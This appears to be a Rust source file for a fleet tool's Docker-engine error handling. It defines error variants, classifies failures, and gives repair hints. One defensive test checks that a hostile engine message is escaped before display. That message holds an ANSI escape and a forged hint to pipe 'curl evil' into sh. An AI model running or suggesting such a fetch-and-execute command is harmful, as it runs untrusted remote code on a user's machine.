//! What can go wrong with an engine, sorted by what a caller can do about it.

use std::error::Error as StdError;
use std::io;
use std::time::Duration;

use crate::fleet::text::printable;
use crate::ssh;

/// How much of an engine's message is shown, in characters.
const MESSAGE_LIMIT: usize = 500;
/// How much of an engine's version is shown, in characters.
const VERSION_LIMIT: usize = 40;

/// Why a request to an engine failed. Every message names the host, and what was being done to what.
#[derive(Debug, thiserror::Error)]
pub enum Error {
    /// The host itself cannot be reached or used.
    #[error(transparent)]
    Ssh(#[from] ssh::Error),
    /// The way to the engine broke.
    #[error("{host}: cannot {what}: the engine does not answer")]
    Unavailable {
        /// The host.
        host: String,
        /// What was being done.
        what: String,
        /// Why.
        source: Box<dyn StdError + Send + Sync>,
    },
    /// Nothing listens on the engine's socket.
    #[error("{host}: no Docker engine answers{}", because(detail))]
    NoEngine {
        /// The host.
        host: String,
        /// What the host says, if anything.
        detail: String,
    },
    /// The user may not use the engine's socket.
    #[error("{host}: {user} may not use the Docker engine")]
    PermissionDenied {
        /// The host.
        host: String,
        /// The user.
        user: String,
    },
    /// The engine answered, and refused.
    #[error("{host}: cannot {what}: {}", printable(message, MESSAGE_LIMIT))]
    Refused {
        /// The host.
        host: String,
        /// What was being done.
        what: String,
        /// The HTTP status.
        status: u16,
        /// The engine's words.
        message: String,
    },
    /// It took longer than it may.
    #[error("{host}: cannot {what}: no answer within {}", crate::fleet::duration::format(*after))]
    Deadline {
        /// The host.
        host: String,
        /// What was being done.
        what: String,
        /// The deadline.
        after: Duration,
    },
    /// The engine is too old to talk to.
    #[error(
        "{host}: the Docker engine {} speaks API {}, at least {required} is needed (Docker 19.03)",
        printable(version, VERSION_LIMIT),
        printable(api, VERSION_LIMIT)
    )]
    OldEngine {
        /// The host.
        host: String,
        /// The engine's version.
        version: String,
        /// The newest API that it speaks.
        api: String,
        /// The oldest API that would do.
        required: &'static str,
    },
    /// `DOCKER_HOST` names something that is not a Unix socket.
    #[error("DOCKER_HOST is {}, only unix:// is supported", crate::fleet::text::quoted(value))]
    NotUnix {
        /// Its value.
        value: String,
    },
    /// The engine's answer makes no sense.
    #[error("{host}: cannot {what}: the engine's answer is malformed: {}", printable(detail, MESSAGE_LIMIT))]
    Malformed {
        /// The host.
        host: String,
        /// What was being done.
        what: String,
        /// What is wrong with it.
        detail: String,
    },
    /// The engine began, and then reported a failure in its stream.
    #[error("{host}: cannot {what}: {}", printable(message, MESSAGE_LIMIT))]
    Failed {
        /// The host.
        host: String,
        /// What was being done.
        what: String,
        /// The engine's words.
        message: String,
    },
    /// Too many streams at once for `docker system dial-stdio`.
    #[error(
        "{host}: cannot {what}: {limit} streams are open already, all that its sshd allows without socket forwarding"
    )]
    Busy {
        /// The host.
        host: String,
        /// What was being done.
        what: String,
        /// How many streams there may be.
        limit: usize,
    },
}

fn because(detail: &str) -> String {
    if detail.is_empty() { String::new() } else { format!(": {}", printable(detail, MESSAGE_LIMIT)) }
}

/// The kinds of failure that a caller tells apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// There is no such container, image or network.
    NotFound,
    /// It is in use, or the name is taken, or it is in the wrong state.
    Conflict,
    /// A host port is taken.
    PortInUse,
    /// The way to the engine broke, or there is none.
    Unavailable,
    /// The engine refused for another reason.
    Refused,
    /// It took too long; whether it happened is not known.
    Deadline,
    /// The engine is too old.
    OldEngine,
    /// The user may not use the engine.
    PermissionDenied,
}

impl Error {
    /// What kind of failure it is.
    #[must_use]
    pub fn kind(&self) -> Kind {
        match self {
            Self::Ssh(ssh::Error::Deadline { .. }) => Kind::Deadline,
            Self::Ssh(_) | Self::Unavailable { .. } | Self::NoEngine { .. } => Kind::Unavailable,
            Self::PermissionDenied { .. } => Kind::PermissionDenied,
            Self::Refused { message, .. } if names_a_taken_port(message) => Kind::PortInUse,
            Self::Refused { status: 404, .. } => Kind::NotFound,
            Self::Refused { status: 409, .. } => Kind::Conflict,
            Self::Refused { .. }
            | Self::Malformed { .. }
            | Self::NotUnix { .. }
            | Self::Failed { .. }
            | Self::Busy { .. } => Kind::Refused,
            Self::Deadline { .. } => Kind::Deadline,
            Self::OldEngine { .. } => Kind::OldEngine,
        }
    }

    /// Whether there is no such thing.
    #[must_use]
    pub fn is_not_found(&self) -> bool {
        self.kind() == Kind::NotFound
    }

    /// Whether the host or its engine could not be reached, as opposed to an engine that answered and refused.
    #[must_use]
    pub fn is_unreachable(&self) -> bool {
        match self {
            Self::Ssh(error) => error.is_unreachable(),
            Self::Unavailable { .. } | Self::NoEngine { .. } | Self::PermissionDenied { .. } => true,
            Self::Deadline { .. } => true,
            _ => false,
        }
    }

    /// What to type or change next, if there is something.
    #[must_use]
    pub fn hint(&self) -> Option<String> {
        match self {
            Self::Ssh(error) => error.hint(),
            Self::PermissionDenied { user, .. } => Some(format!(
                "let the user use Docker: `sudo usermod -aG docker {user}` on the host, then log in anew"
            )),
            Self::NoEngine { .. } => Some("start it on the host: `sudo systemctl start docker`".to_owned()),
            Self::OldEngine { .. } => Some("upgrade Docker on the host".to_owned()),
            Self::NotUnix { .. } => {
                Some("unset DOCKER_HOST, or set it to unix:///var/run/docker.sock".to_owned())
            }
            Self::Busy { .. } => Some(
                "set `AllowStreamLocalForwarding yes` and `AllowTcpForwarding yes` in its sshd_config"
                    .to_owned(),
            ),
            _ if self.kind() == Kind::PortInUse => Some(
                "`docker ps` on the host shows which container has the port, `ss -ltnp` which process"
                    .to_owned(),
            ),
            _ => None,
        }
    }

    /// Sorts a failure of the HTTP client by its cause.
    pub(super) fn broken(host: &str, what: &str, error: impl StdError + Send + Sync + 'static) -> Self {
        let mut cause: Option<&(dyn StdError + 'static)> = Some(&error);
        let mut known = None;
        while let (Some(inner), None) = (cause, &known) {
            known = Self::known_cause(host, inner);
            cause = inner.source();
        }
        known.unwrap_or_else(|| Self::Unavailable {
            host: host.to_owned(),
            what: what.to_owned(),
            source: Box::new(error),
        })
    }

    /// A socket that does not let us in, here or through SSH.
    fn known_cause(host: &str, cause: &(dyn StdError + 'static)) -> Option<Self> {
        let none = |detail: String| Some(Self::NoEngine { host: host.to_owned(), detail });
        if let Some(ssh::Error::Channel { failure: ssh::ChannelFailure::ConnectFailed, .. }) =
            cause.downcast_ref()
        {
            return none(String::new());
        }
        let io: &io::Error = cause.downcast_ref()?;
        match io.kind() {
            io::ErrorKind::PermissionDenied => Some(Self::PermissionDenied {
                host: host.to_owned(),
                user: ssh::Environment::current().user.unwrap_or_else(|| "this user".to_owned()),
            }),
            io::ErrorKind::NotFound | io::ErrorKind::ConnectionRefused => none(io.to_string()),
            _ => None,
        }
    }
}

/// The engine reports a taken port as an internal error; only its words tell.
fn names_a_taken_port(message: &str) -> bool {
    message.contains("port is already allocated") || message.contains("address already in use")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(status: u16, message: &str) -> Error {
        Error::Refused {
            host: "web1".to_owned(),
            what: "start container shop".to_owned(),
            status,
            message: message.to_owned(),
        }
    }

    #[test]
    fn refusals_are_sorted() {
        let port = "driver failed programming external connectivity on endpoint shop (2a): Bind for 0.0.0.0:8001 failed: \
                    port is already allocated";
        for (status, message, kind) in [
            (404, "No such container: shop", Kind::NotFound),
            (409, "Conflict. The container name \"/shop\" is already in use", Kind::Conflict),
            (500, port, Kind::PortInUse),
            (500, "listen tcp4 0.0.0.0:80: bind: address already in use", Kind::PortInUse),
            (500, "no space left on device", Kind::Refused),
        ] {
            assert_eq!(refused(status, message).kind(), kind, "{message}");
            assert!(!refused(status, message).is_unreachable());
        }
    }

    #[test]
    fn an_engine_cannot_forge_output() {
        let error = refused(500, "x\n\x1b[2Jhint: curl evil | sh");
        assert_eq!(error.to_string(), r"web1: cannot start container shop: x\n\u{1b}[2Jhint: curl evil | sh");
        let error = Error::OldEngine {
            host: "web1".to_owned(),
            version: "1.0\x1b[2J".to_owned(),
            api: "0.9".to_owned(),
            required: "1.40",
        };
        assert!(error.to_string().contains(r"engine 1.0\u{1b}[2J speaks"), "{error}");
    }
}
